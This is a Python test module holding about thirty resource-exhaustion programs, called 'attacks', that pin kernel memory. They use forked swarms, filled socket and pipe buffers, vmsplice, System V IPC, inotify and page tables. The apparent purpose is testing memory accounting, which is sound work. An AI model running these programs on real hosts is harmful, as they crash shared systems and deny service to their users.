"""Ways for a test to hold memory in the kernel, where no process has it. Each runs until the kernel refuses more.

Every attack is a Python program; `swarm(n)` forks, so that what is limited for one process is taken by many.
"""

from __future__ import annotations

PRELUDE = """
import ctypes, errno, fcntl, mmap, os, select, signal, socket, sys, time
BLOCK = b'x' * 65536
libc = ctypes.CDLL(None, use_errno=True)
kept = []

def swarm(count):
    for _ in range(count):
        try:
            if os.fork() == 0:
                return
        except OSError:
            return

def fill(one, data=BLOCK):
    one.setblocking(False)
    try:
        while True:
            one.send(data)
    except OSError:
        pass

def until_refused(make, limit=10**9):
    for _ in range(limit):
        try:
            kept.append(make())
        except (OSError, MemoryError, ValueError):
            break
"""

SOCKETS = {
    "socket pairs": """
def make():
    a, b = socket.socketpair()
    fill(a); fill(b)
    return a, b
until_refused(make)
""",
    "socket pairs of many": """
swarm(40)
def make():
    a, b = socket.socketpair()
    fill(a); fill(b)
    return a, b
until_refused(make, 400)
""",
    "socket pairs with large buffers": """
def make():
    a, b = socket.socketpair()
    for one in (a, b):
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
        fill(one)
    return a, b
until_refused(make)
""",
    "one end closed": """
def make():
    a, b = socket.socketpair()
    fill(a); a.close()
    return b
until_refused(make)
""",
    "datagrams of closed senders": """
def make():
    at = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    at.bind('\\0%d-%d' % (os.getpid(), len(kept)))
    for _ in range(10):
        sender = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        sender.connect(at.getsockname()); sender.setblocking(False)
        try: sender.send(b'x' * 200_000)
        except OSError: pass
        sender.close()
    return at
until_refused(make)
""",
    "connections that nobody takes": """
def make():
    at = socket.socket(socket.AF_UNIX)
    at.bind('\\0%d-%d' % (os.getpid(), len(kept)))
    at.listen(4096)
    for _ in range(4000):
        sender = socket.socket(socket.AF_UNIX)
        sender.setblocking(False)
        sender.connect(at.getsockname())
        fill(sender)
        sender.close()
    return at
until_refused(make)
""",
    "sockets in flight": """
def make():
    a, b = socket.socketpair()
    for _ in range(3):
        c, d = socket.socketpair()
        fill(c); fill(d)
        socket.send_fds(a, [b'x'], [c.fileno(), d.fileno()])
    return a, b
until_refused(make)
""",
    "tcp": """
at = socket.socket(); at.bind(('127.0.0.1', 0)); at.listen(100)
def make():
    a = socket.socket(); a.connect(at.getsockname())
    b, _ = at.accept()
    fill(a); fill(b)
    return a, b
until_refused(make)
""",
    "tcp that nobody takes": """
def make():
    at = socket.socket(); at.bind(('127.0.0.1', 0)); at.listen(4096)
    for _ in range(1000):
        a = socket.socket(); a.settimeout(1); a.connect(at.getsockname())
        fill(a); a.close()
    return at
until_refused(make)
""",
    "udp": """
def make():
    a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); a.bind(('127.0.0.1', 0))
    a.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 30)
    a.connect(a.getsockname())
    a.setblocking(False)
    for _ in range(20): a.send(b'x' * 60000)
    return a
until_refused(make)
""",
}

OTHERS = {
    "pipes": """
swarm(60)
def make():
    r, w = os.pipe()
    try: fcntl.fcntl(w, 1031, 1 << 20)
    except OSError: pass
    os.set_blocking(w, False)
    try:
        while True: os.write(w, BLOCK)
    except OSError: pass
    os.close(w)
    return r
until_refused(make)
""",
    "pages given to pipes": """
def make():
    area = mmap.mmap(-1, 64 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    area.madvise(14)
    r, w = os.pipe()
    start = ctypes.addressof(ctypes.c_char.from_buffer(area))
    for at in range(0, 32 << 20, 2 << 20):
        ctypes.memset(start + at, 1, 2 << 20)
        vec = (ctypes.c_size_t * 2)(start + at, 1)
        if libc.vmsplice(w, vec, 1, 2) < 0: raise OSError(ctypes.get_errno(), 'vmsplice')
    libc.munmap(ctypes.c_void_p(start), ctypes.c_size_t(64 << 20))
    return r, w, area
until_refused(make, 200)
time.sleep(600)
""",
    "memory files": "until_refused(lambda: os.write(os.memfd_create('x'), BLOCK * 100))",
    "many small files": """
swarm(3)
def make():
    n = len(kept)
    if n % 10000 == 0: os.makedirs(f'/tmp/{os.getpid()}/{n}', exist_ok=True)
    name = f'/tmp/{os.getpid()}/{n // 10000 * 10000}/' + str(n).zfill(240)
    os.close(os.open(name, os.O_CREAT | os.O_WRONLY))
until_refused(make)
""",
    "links with long targets": """
swarm(3)
def make():
    n = len(kept)
    if n % 10000 == 0: os.makedirs(f'/dev/shm/{os.getpid()}/{n}', exist_ok=True)
    os.symlink('y' * 120, f'/dev/shm/{os.getpid()}/{n // 10000 * 10000}/' + str(n).zfill(240))
until_refused(make)
""",
    "deep folders": """
os.chdir('/tmp')
def make():
    os.mkdir('d' * 200); os.chdir('d' * 200)
until_refused(make)
""",
    "shared memory of System V": """
def make():
    number = libc.shmget(0, 1 << 24, 0o1600)
    if number < 0: raise OSError
    libc.shmat.restype = ctypes.c_void_p
    at = libc.shmat(number, None, 0)
    ctypes.memset(at, 1, 1 << 24); libc.shmdt(ctypes.c_void_p(at))
until_refused(make)
""",
    "messages of System V": """
def make():
    queue = libc.msgget(0, 0o1600)
    if queue < 0: raise OSError
    for _ in range(2): libc.msgsnd(queue, ctypes.create_string_buffer(b'\\1' + b'\\0' * 7 + b'x' * 8000), 8000, 0o4000)
until_refused(make)
""",
    "semaphores of System V": """
def make():
    if libc.semget(0, 32000, 0o1600) < 0: raise OSError
until_refused(make)
""",
    "message queues": """
rt = ctypes.CDLL('librt.so.1', use_errno=True)
def make():
    queue = rt.mq_open(b'/q%d' % len(kept), os.O_CREAT | os.O_RDWR | os.O_NONBLOCK, 0o600, None)
    if queue < 0: raise OSError
    for _ in range(10): rt.mq_send(queue, b'x' * 8192, 8192, 0)
until_refused(make)
""",
    "event descriptors": "swarm(200)\nuntil_refused(lambda: libc.eventfd(0, 0) >= 0 or os.close(-1))",
    "polls of polls": """
swarm(20)
targets = []
try:
    for _ in range(1000): targets.append(libc.eventfd(0, 0))
except OSError: pass
def make():
    poll = select.epoll()
    for one in targets: poll.register(one)
    return poll
until_refused(make)
""",
    "watches of folders": """
swarm(20)
def make():
    n = len(kept)
    os.mkdir(f'/tmp/{os.getpid()}-{n}')
    if n % 1000 == 0: globals()['watch'] = libc.inotify_init()
    if libc.inotify_add_watch(watch, f'/tmp/{os.getpid()}-{n}'.encode(), 0xfff) < 0: raise OSError
until_refused(make)
""",
    "timers": """
swarm(60)
def make():
    number = ctypes.c_int()
    if libc.timer_create(0, None, ctypes.byref(number)) < 0: raise OSError
until_refused(make)
""",
    "page tables": """
swarm(120)
def make():
    area = mmap.mmap(-1, 1 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, prot=mmap.PROT_READ)
    area.madvise(15)
    for at in range(0, 1 << 30, 2 << 20): area[at]
    return area
until_refused(make)
""",
    "forks that share": "kept.append(bytearray(b'x') * 50_000_000)\nswarm(200)\n",
    "many mappings": """
swarm(200)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
start = libc.mmap(None, 70000 * 4096, 0, 0x4022, -1, 0)
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
for n in range(0, 60000, 2):
    if libc.mprotect(start + n * 4096, 4096, 1) < 0: break
""",
    "locks of files": """
swarm(3)
def make():
    file = os.open(f'/tmp/{os.getpid()}-{len(kept)}', os.O_CREAT | os.O_RDWR)
    for n in range(3000): fcntl.lockf(file, fcntl.LOCK_EX, 1, n * 2)
    return file
until_refused(make)
""",
    "rules of Landlock": """
def make():
    rules = (ctypes.c_uint64 * 3)(4, 0, 0)
    one = libc.syscall(444, rules, 8, 0)
    if one < 0: raise OSError
    for at in os.listdir('/usr/bin')[:500]:
        try: file = os.open('/usr/bin/' + at, os.O_PATH)
        except OSError: continue
        libc.syscall(445, one, 1, (ctypes.c_uint32 * 3)(4, 0, file), 0)
        os.close(file)
until_refused(make)
""",
}

ATTACKS = SOCKETS | OTHERS
